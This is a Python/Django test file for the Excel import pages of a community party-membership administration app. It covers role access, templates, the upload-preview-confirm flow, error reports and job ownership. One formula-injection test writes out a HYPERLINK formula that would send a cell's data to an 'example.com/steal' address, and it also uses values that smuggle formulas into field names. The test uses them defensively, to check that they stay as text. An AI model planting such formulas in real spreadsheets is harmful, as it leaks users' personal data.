"""The import pages: who reaches them, the upload → preview → confirm journey, templates and reports."""

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from dangjian.audit.models import AuditEvent
from dangjian.core.testing import formula_cells
from dangjian.imports import services
from dangjian.imports.models import ImportJob, ImportStatus
from dangjian.imports.testing import MEMBER_HEADER, RESIDENT_HEADER, citizen_id, member_row, read_xlsx, xlsx
from dangjian.orgs import services as org_services
from dangjian.people.models import Member

NOT_IMPORTERS = ("member", "resident", "unit_contact", "department_staff", "department_staff_outsider", "nobody")


def upload(client, content, kind="members", name="名单.xlsx", **extra):
    return client.post(reverse("imports:upload"), {"kind": kind, "file": SimpleUploadedFile(name, content), **extra})


def test_the_import_page_is_for_territorial_roles_only(world, login):
    u = world.users
    for name in ("district_admin", "subdistrict_admin", "community_worker", "grid_worker"):
        assert login(getattr(u, name)).get(reverse("imports:home")).status_code == 200, name
    for name in NOT_IMPORTERS:
        assert login(getattr(u, name)).get(reverse("imports:home")).status_code == 404, name
    page = login(u.grid_worker).get(reverse("imports:home")).content.decode()
    assert "居民模板" in page and "党员模板" not in page
    content = xlsx(RESIDENT_HEADER, [["婆石社区", "中珠新村", "1栋", "101", "赵六", "", ""]])
    for name in NOT_IMPORTERS:
        assert upload(login(getattr(u, name)), content, kind="residents").status_code == 404, name
    anonymous = login(u.nobody)
    anonymous.logout()
    assert anonymous.get(reverse("imports:home")).status_code == 302
    assert upload(anonymous, content, kind="residents").status_code == 302
    assert not ImportJob.objects.exists()
    page = login(u.grid_worker).get(reverse("imports:home")).content.decode()
    assert reverse("imports:export_residents") in page and reverse("imports:export_members") not in page


def test_templates_per_kind_and_role(world, login):
    u = world.users
    assert login(u.grid_worker).get(reverse("imports:template", args=["members"])).status_code == 404
    assert login(u.grid_worker).get(reverse("imports:template", args=["residents"])).status_code == 200
    assert login(u.community_worker).get(reverse("imports:template", args=["nothing"])).status_code == 404
    assert login(u.member).get(reverse("imports:template", args=["residents"])).status_code == 404
    response = login(u.community_worker).get(reverse("imports:template", args=["members"]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["党员", "填写说明", "可选值"]
    data = wb["党员"]
    assert [c.value for c in data[1]] == MEMBER_HEADER
    assert data["A2"].value.startswith("【示例】") and data["A3"].value.startswith("【示例】")
    lists = {str(dv.sqref).split(":")[0][0]: dv.formula1 for dv in data.data_validations.dataValidation}
    assert lists["D"] == '"正式党员,预备党员"' and lists["G"] == '"在职,退休,流动,口袋"'
    assert lists["H"].startswith("'可选值'!$A$2")
    options = [row[0] for row in wb["可选值"].iter_rows(min_row=2, values_only=True) if row[0]]
    assert "中珠新村小区党支部" in options and "海虹花园小区党支部" not in options  # scope
    explained = " ".join(str(c.value) for row in wb["填写说明"].iter_rows() for c in row if c.value)
    assert "正式党员、预备党员" in explained and "用“、”分隔" not in explained
    residents = load_workbook(
        io.BytesIO(login(u.grid_worker).get(reverse("imports:template", args=["residents"])).content)
    )
    assert "用“、”分隔" in " ".join(str(c.value) for row in residents["填写说明"].iter_rows() for c in row if c.value)


def test_the_template_as_downloaded_imports_nothing_but_filled_in_imports_its_rows(world, login):
    client = login(world.users.community_worker)
    template = client.get(reverse("imports:template", args=["members"])).content
    upload(client, template)
    job = ImportJob.objects.latest("pk")
    assert job.skipped_rows == 2 and "没有数据行" in job.errors[0]["message"]
    wb = load_workbook(io.BytesIO(template))
    ws = wb["党员"]
    ws.append(member_row(4))
    out = io.BytesIO()
    wb.save(out)
    upload(client, out.getvalue())
    job = ImportJob.objects.latest("pk")
    assert job.status == ImportStatus.CHECKED and job.error_count == 0 and job.total_rows == 1


def test_upload_preview_then_confirm(world, login):
    client = login(world.users.community_worker)
    response = upload(client, xlsx(MEMBER_HEADER, [member_row(2), member_row(3)]))
    job = ImportJob.objects.get()
    assert response.status_code == 302 and job.status == ImportStatus.CHECKED and not job.background
    page = client.get(response.url).content.decode()
    assert "检查通过：将导入 2 条" in page and "确认导入 2 条" in page
    assert "440402********0028" in page and citizen_id(2) not in page  # the preview is masked
    assert Member.objects.count() == 0
    response = client.post(reverse("imports:confirm", args=[job.public_id]), follow=True)
    assert "已导入 2 条" in response.content.decode()
    assert Member.objects.count() == 2


def test_errors_are_listed_by_row_and_column_and_the_report_marks_them(world, login):
    client = login(world.users.community_worker)
    rows = [member_row(2), member_row(3, 手机号="12345"), member_row(4, 所在党组织="无此支部")]
    upload(client, xlsx(MEMBER_HEADER, rows))
    job = ImportJob.objects.get()
    page = client.get(reverse("imports:job", args=[job.public_id])).content.decode()
    assert "发现 2 处问题" in page and "第 3 行" in page and "第 4 行" in page and "所在党组织" in page
    assert "确认导入" not in page
    assert client.post(reverse("imports:confirm", args=[job.public_id]), follow=True).status_code == 200
    assert Member.objects.count() == 0
    report = client.get(reverse("imports:error_report", args=[job.public_id]))
    assert report.status_code == 200
    content = b"".join(report.streaming_content)
    rows_back = read_xlsx(content)
    assert rows_back[0][-1] == "错误" and rows_back[1][-1] is None
    assert "C列（手机号）" in rows_back[2][-1] and "H列（所在党组织）" in rows_back[3][-1]
    sheet = load_workbook(io.BytesIO(content))["党员"]
    assert sheet["C3"].fill.fgColor.rgb.endswith("FDE2E1") and sheet["H4"].fill.fgColor.rgb.endswith("FDE2E1")
    listing = read_xlsx(content, "错误清单")
    assert listing[1][:3] == (3, "C", "手机号")
    assert AuditEvent.objects.filter(action="export", object_id=str(job.public_id)).count() == 1
    # Fix the report itself and upload it again (its 错误 column is ignored), replacing the job.
    wb = load_workbook(io.BytesIO(content))
    ws = wb["党员"]
    ws["C3"] = "13912345678"
    ws["H4"] = "中珠新村小区党支部"
    out = io.BytesIO()
    wb.save(out)
    upload(client, out.getvalue(), replaces=str(job.public_id))
    job.refresh_from_db()
    assert job.status == ImportStatus.CANCELLED
    fixed = ImportJob.objects.latest("pk")
    assert fixed.status == ImportStatus.CHECKED and fixed.error_count == 0 and fixed.total_rows == 3


def test_no_uploaded_or_stored_text_comes_back_as_a_live_formula(world, login):
    """The error report, its problem list and the template's option lists write text as text."""
    link = '=HYPERLINK("http://example.com/steal?d="&B2,"点我")'
    org_services.org_create(actor=None, org_type="branch", name="@SUM(1)支部", parent=world.cc1, area=world.c1)
    wb = Workbook()
    ws = wb.active
    ws.append(MEMBER_HEADER)
    ws.append(member_row(2, name=link, 所在党组织="+无此支部"))
    for cell in ws[2]:
        cell.data_type = "s"  # typed into text-formatted cells, as a person or a script would
    out = io.BytesIO()
    wb.save(out)
    client = login(world.users.community_worker)
    upload(client, out.getvalue())
    job = ImportJob.objects.get()
    assert job.error_count == 1
    content = b"".join(client.get(reverse("imports:error_report", args=[job.public_id])).streaming_content)
    assert formula_cells(content) == []
    assert read_xlsx(content)[1][:1] == (link,) and read_xlsx(content)[1][7] == "+无此支部"
    assert read_xlsx(content, "错误清单")[1][3] == "+无此支部"
    template = client.get(reverse("imports:template", args=["members"])).content
    assert formula_cells(template) == []
    options = [row[0] for row in read_xlsx(template, "可选值")]
    assert "@SUM(1)支部" in options


def test_upload_form_errors(world, login):
    client = login(world.users.community_worker)
    page = upload(client, b"a,b", name="名单.csv").content.decode()
    assert "请上传 Excel 工作簿" in page
    page = upload(client, b"\xd0\xcf\x11\xe0", name="名单.xls").content.decode()
    assert "另存为" in page
    page = upload(client, b"not a zip", name="名单.xlsx").content.decode()
    assert "无法读取该文件" in page
    page = upload(client, xlsx(MEMBER_HEADER, []), kind="units", name="a.xlsx").content.decode()
    assert ImportJob.objects.filter(kind="units").count() == 1
    grid = login(world.users.grid_worker)
    page = upload(grid, xlsx(MEMBER_HEADER, []), kind="members").content.decode()
    assert "不是可用的选项" in page or "选择一个有效的选项" in page
    assert not ImportJob.objects.filter(created_by=world.users.grid_worker).exists()


def test_every_job_page_is_the_uploaders_alone(world, login, assert_scoped, client):
    u = world.users
    job = services.job_check_run(
        services.job_create(
            actor=u.community_worker,
            kind="members",
            filename="a.xlsx",
            content=xlsx(MEMBER_HEADER, [member_row(2, 手机号="1")]),
        ).pk
    )
    for name in ("job", "error_report"):
        url = reverse(f"imports:{name}", args=[job.public_id])
        assert_scoped(url, owner=u.community_worker, outsider=u.community_worker_colleague)
        assert_scoped(url, owner=None, outsider=u.community_worker_outsider)
        assert_scoped(url, owner=None, outsider=u.district_admin)
        assert_scoped(url, owner=None, outsider=u.member)
    progress = reverse("imports:progress", args=[job.public_id])
    assert login(u.community_worker).get(progress)["HX-Refresh"] == "true"
    assert login(u.community_worker_colleague).get(progress).status_code == 404
    for name in ("confirm", "recheck", "cancel"):
        url = reverse(f"imports:{name}", args=[job.public_id])
        for outsider in (u.community_worker_colleague, u.community_worker_outsider, u.subdistrict_admin):
            assert login(outsider).post(url).status_code == 404, (name, outsider.username)
        assert login(u.community_worker).get(url).status_code == 405
    assert login(u.community_worker).post(reverse("imports:recheck", args=[job.public_id])).status_code == 302
    assert login(u.community_worker).post(reverse("imports:cancel", args=[job.public_id])).status_code == 302
    job.refresh_from_db()
    assert job.status == ImportStatus.CANCELLED
    missing = reverse("imports:job", args=["00000000-0000-0000-0000-000000000000"])
    assert login(u.community_worker).get(missing).status_code == 404


def test_a_job_is_not_visible_in_another_role_of_the_same_person(world, login):
    from dangjian.accounts import services as account_services
    from dangjian.accounts.roles import SESSION_KEY

    user = world.users.community_worker
    member_role = account_services.role_assign(actor=None, user=user, role="party_member", home_community=world.c1)
    job = services.job_create(
        actor=user, kind="members", filename="a.xlsx", content=xlsx(MEMBER_HEADER, [member_row(2)])
    )
    client = login(user)
    session = client.session
    session[SESSION_KEY] = member_role.pk
    session.save()
    assert client.get(reverse("imports:job", args=[job.public_id])).status_code == 404


def test_the_home_page_lists_my_jobs_only(world, login, count_queries):
    u = world.users
    for k in range(3):
        services.job_create(
            actor=u.community_worker, kind="members", filename=f"我的{k}.xlsx", content=xlsx(MEMBER_HEADER, [])
        )
    services.job_create(
        actor=u.community_worker_colleague, kind="members", filename="同事的.xlsx", content=xlsx(MEMBER_HEADER, [])
    )
    page = login(u.community_worker).get(reverse("imports:home")).content.decode()
    assert "我的0.xlsx" in page and "同事的.xlsx" not in page
    few = count_queries(u.community_worker, reverse("imports:home"))
    for k in range(10):
        services.job_create(
            actor=u.community_worker, kind="members", filename=f"更多{k}.xlsx", content=xlsx(MEMBER_HEADER, [])
        )
    assert count_queries(u.community_worker, reverse("imports:home")) == few
